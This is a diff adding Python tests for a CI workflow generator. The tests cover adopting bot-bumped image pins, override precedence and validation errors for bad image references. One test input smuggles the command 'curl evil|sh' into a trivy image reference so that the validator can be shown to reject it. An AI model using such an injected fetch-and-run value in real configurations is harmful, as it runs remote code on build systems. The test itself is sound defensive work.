@@ -218,3 +218,180 @@ def test_https_unless_local_or_asked():
     assert Client(parse_reference("ghcr.io/a/b:1"), plain_http=True).scheme == "http"
     assert Client(parse_reference("127.0.0.1:5000/a/b:1")).scheme == "http"
     assert Client(parse_reference("localhost:5000/a/b:1")).scheme == "http"
+
+
+# 2. Tool image pins adopted from a bot's bump
+
+OUTPUT = ".github/workflows/ci.yml"
+TRIVY = pins.image("trivy")  # aquasec/trivy:<tag>@sha256:<digest>, gen-ci's own pin
+NEW_DIGEST = _sha(b"a newer trivy index")
+BUMPED = f"aquasec/trivy:0.99.0@{NEW_DIGEST}"
+
+
+@pytest.fixture
+def repo(tmp_path, monkeypatch):
+    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
+    (tmp_path / "gen-ci.yml").write_text(MINIMAL)
+    monkeypatch.chdir(tmp_path)
+    return tmp_path
+
+
+def _overrides(repo: Path) -> dict:
+    return json.loads((repo / ".gen-ci" / "pins.json").read_text())
+
+
+def test_a_bot_image_bump_is_recognised_adopted_and_kept(repo):
+    assert invoke("sync").exit_code == 0
+    output = repo / OUTPUT
+    text = output.read_text()
+    assert text.count(TRIVY) == 3
+    output.write_text(text.replace(TRIVY, BUMPED))  # what Renovate's docker manager does to every occurrence
+
+    result = invoke("check")
+    assert result.exit_code == 1
+    assert f"pin bump (a bot or a person updated aquasec/trivy {pins.image_tag('trivy')} -> 0.99.0" in result.stderr
+    assert "gen-ci pins adopt" in result.stderr
+
+    adopted = invoke("pins", "adopt")
+    assert adopted.exit_code == 0, adopted.stderr
+    assert f"adopted the trivy image {BUMPED} into .gen-ci/pins.json" in adopted.stderr
+    trivy = _overrides(repo)["images"]["trivy"]
+    assert (trivy["image"], trivy["tag"], trivy["digest"]) == ("aquasec/trivy", "0.99.0", NEW_DIGEST)
+
+    assert invoke("sync").exit_code == 0
+    synced = output.read_text()
+    assert synced.count(BUMPED) == 3 and TRIVY not in synced  # the bump survives a sync
+    assert invoke("check").exit_code == 0
+    # Rendering to standard output uses the override too: one answer for every command.
+    assert BUMPED in invoke("gen-ci.yml").stdout
+
+
+def test_an_engine_digest_bump_is_adopted_and_a_version_bump_is_not(repo):
+    (repo / "gen-ci.yml").write_text(MINIMAL + "docker: {mode: dind}\n")
+    invoke("sync")
+    output = repo / OUTPUT
+    dind = pins.image("docker-dind")
+    text = output.read_text()
+    assert dind in text
+
+    other_version = dind.replace(pins.image_tag("docker-dind"), "29.9.0-dind").rsplit("@", 1)[0] + f"@{NEW_DIGEST}"
+    output.write_text(text.replace(dind, other_version))
+    refused = invoke("pins", "adopt")
+    assert refused.exit_code == 1 and "not adopted" in refused.stderr and "docker.version" in refused.stderr
+    assert not (repo / ".gen-ci" / "pins.json").exists()
+
+    same_tag = dind.rsplit("@", 1)[0] + f"@{NEW_DIGEST}"
+    output.write_text(text.replace(dind, same_tag))
+    adopted = invoke("pins", "adopt")
+    assert adopted.exit_code == 0, adopted.stderr
+    assert _overrides(repo)["images"]["docker-dind"]["digest"] == NEW_DIGEST
+    invoke("sync")
+    assert same_tag in output.read_text() and invoke("check").exit_code == 0
+
+
+def test_adopt_keeps_action_and_image_overrides_together(repo):
+    invoke("sync")
+    output = repo / OUTPUT
+    text = output.read_text().replace(TRIVY, BUMPED)
+    old = next(line for line in text.splitlines() if "actions/checkout@" in line)
+    sha = "0123456789abcdef0123456789abcdef01234567"
+    output.write_text(text.replace(old, f"{old.split('@')[0]}@{sha} # v7.9.9"))
+    assert invoke("pins", "adopt").exit_code == 0
+    overrides = _overrides(repo)
+    assert overrides["actions"]["actions/checkout"] == {"version": "v7.9.9", "sha": sha}
+    assert overrides["images"]["trivy"]["digest"] == NEW_DIGEST
+    invoke("sync")
+    assert invoke("check").exit_code == 0
+
+
+def _gc116(repo: Path, images: dict) -> list[str]:
+    (repo / ".gen-ci").mkdir(exist_ok=True)
+    (repo / ".gen-ci" / "pins.json").write_text(json.dumps({"images": images}, indent=2) + "\n")
+    result = invoke("check")
+    assert result.exit_code == 2 and "Traceback" not in result.stderr
+    return [line for line in result.stderr.splitlines() if "error[" in line]
+
+
+@pytest.mark.parametrize(("images", "where", "words"), [
+    ({"trivvy": {"image": "aquasec/trivy", "tag": "0.99.0", "digest": NEW_DIGEST}}, ":3:5: error[GC116]: $.images.trivvy:", "did you mean 'trivy'"),
+    ({"trivy": {"image": "mirror.example/aquasec/trivy", "tag": "0.99.0", "digest": NEW_DIGEST}}, ":4:16: error[GC116]: $.images.trivy.image:", "tool_images"),
+    ({"trivy": {"image": "aquasec/trivy", "tag": "0.99.0", "digest": "sha256:abc"}}, ":6:17: error[GC116]: $.images.trivy.digest:", "sha256"),
+    ({"trivy": {"image": "aquasec/trivy", "digest": NEW_DIGEST}}, ":3:14: error[GC116]: $.images.trivy:", "tag"),
+    ({"docker-cli": {"image": "docker", "tag": "29.9.0-cli", "digest": NEW_DIGEST}}, ":5:14: error[GC116]: $.images.docker-cli.tag:", "docker.version"),
+])
+def test_a_bad_image_override_is_a_located_gc116(repo, images, where, words):
+    rows = _gc116(repo, images)
+    assert len(rows) == 1 and rows[0].startswith(str(repo / ".gen-ci" / "pins.json") + ":"), rows
+    assert where in rows[0] and words in rows[0], rows
+
+
+# 3. A spec's own tool images
+
+MIRROR = f"registry.example.com/mirror/aquasec/trivy:0.75.0@{_sha(b'mirrored trivy')}"
+PYTHON = f"registry.example.com/mirror/python:3.14.1-slim@{_sha(b'mirrored python')}"
+REGISTRY = f"registry.example.com/mirror/registry:3.2.0@{_sha(b'mirrored registry')}"
+BUILDKIT = f"registry.example.com:5000/moby/buildkit:v0.33.0@{_sha(b'mirrored buildkit')}"
+
+
+def test_spec_tool_images_reach_the_model_and_the_templates(cli, write_spec):
+    spec = write_spec(MINIMAL + f"tool_images:\n  trivy: {MIRROR}\n  python: {PYTHON}\n  registry: {REGISTRY}\n  buildkit: {BUILDKIT}\n")
+    result = cli(str(spec))
+    assert result.exit_code == 0, result.stderr
+    text = result.stdout
+    for reference in (MIRROR, PYTHON, REGISTRY, BUILDKIT):  # scanner and builder from the model, python and registry from pinned_image
+        assert reference in text, reference
+    for name in ("trivy", "python", "registry", "buildkit"):
+        assert pins.image(name) not in text, name
+    # Without the key, the output is gen-ci's pins again: nothing is left behind between renders.
+    assert pins.image("trivy") in cli(str(write_spec(MINIMAL, "plain.yml"))).stdout
+
+
+def test_spec_tool_images_win_over_overrides_which_win_over_pins_json(repo):
+    (repo / ".gen-ci").mkdir()
+    (repo / ".gen-ci" / "pins.json").write_text(json.dumps({"images": {
+        "trivy": {"image": "aquasec/trivy", "tag": "0.99.0", "digest": NEW_DIGEST},
+        "python": {"image": "python", "tag": "3.14.2-slim", "digest": NEW_DIGEST},
+    }}))
+    (repo / "gen-ci.yml").write_text(MINIMAL + f"tool_images: {{trivy: '{MIRROR}'}}\n")
+    text = invoke("gen-ci.yml").stdout
+    assert MIRROR in text and BUMPED not in text and TRIVY not in text  # the spec first
+    assert f"python:3.14.2-slim@{NEW_DIGEST}" in text  # then the override
+    assert pins.image("registry") in text  # then gen-ci's pins.json
+
+    with pins.images_in_use({"trivy": MIRROR}, {"trivy": {"image": "aquasec/trivy", "tag": "0.99.0", "digest": NEW_DIGEST}}):
+        assert pins.image("trivy") == MIRROR
+    assert pins.image("trivy") == TRIVY
+
+
+def test_a_bump_of_a_spec_tool_image_is_not_adopted(repo):
+    (repo / "gen-ci.yml").write_text(MINIMAL + f"tool_images: {{trivy: '{MIRROR}'}}\n")
+    invoke("sync")
+    output = repo / OUTPUT
+    newer = MIRROR.replace("0.75.0", "0.76.0").rsplit("@", 1)[0] + f"@{NEW_DIGEST}"
+    output.write_text(output.read_text().replace(MIRROR, newer))
+    result = invoke("pins", "adopt")
+    assert result.exit_code == 1 and "tool_images.trivy pins it; change it there" in result.stderr
+    assert not (repo / ".gen-ci" / "pins.json").exists()
+
+
+@pytest.mark.parametrize(("tool_images", "code", "where", "words"), [
+    ("{trivvy: 'aquasec/trivy:0.75.0@sha256:%s'}" % ("a" * 64), "GC178", "$.tool_images.trivvy", "did you mean 'trivy'"),
+    ("{trivy: 'registry.example.com/aquasec/trivy:0.75.0'}", "GC178", "$.tool_images.trivy", "gen-ci pins resolve registry.example.com/aquasec/trivy:0.75.0"),
+    ("{trivy: 'registry.example.com/aquasec/trivy@sha256:%s'}" % ("a" * 64), "GC178", "$.tool_images.trivy", "no tag"),
+    ("{trivy: 'aquasec/trivy:0.75.0@sha256:%s'}" % ("A" * 64), "GC178", "$.tool_images.trivy", "64 lower-case hex"),
+    ("{trivy: 'aquasec/trivy:0.75.0@sha256:%s; curl evil|sh'}" % ("a" * 64), "GC178", "$.tool_images.trivy", "not host/path:tag"),
+    ("{docker-cli: 'docker:29.9.0-cli@sha256:%s'}" % ("a" * 64), "GC179", "$.tool_images.docker-cli", "docker.version with docker.dind_digest and docker.cli_digest"),
+])
+def test_bad_tool_images_are_located_errors(cli, write_spec, tool_images, code, where, words):
+    result = cli(str(write_spec(MINIMAL + "scan: {tool: trivy}\n" + f"tool_images: {tool_images}\n")))
+    rows = [line for line in result.stderr.splitlines() if "error[" in line]
+    assert result.exit_code == 2 and len(rows) == 1, result.stderr
+    assert ":7:" in rows[0] and f"error[{code}]: {where}:" in rows[0] and words in rows[0], rows
+
+
+def test_a_tool_pinned_twice_is_refused(cli, write_spec):
+    digest = "sha256:" + "b" * 64
+    spec = MINIMAL.replace("  - repository: ghcr.io/acme/app\n", f"  - repository: ghcr.io/acme/app\n    dockerfile_check: {{tool: hadolint, digest: '{digest}'}}\n")
+    result = cli(str(write_spec(spec + f"tool_images: {{hadolint: 'hadolint/hadolint:v2.16.0@{digest}'}}\n")))
+    assert result.exit_code == 2 and "error[GC169]: $.tool_images.hadolint:" in result.stderr
+    assert "images[0].dockerfile_check.digest" in result.stderr
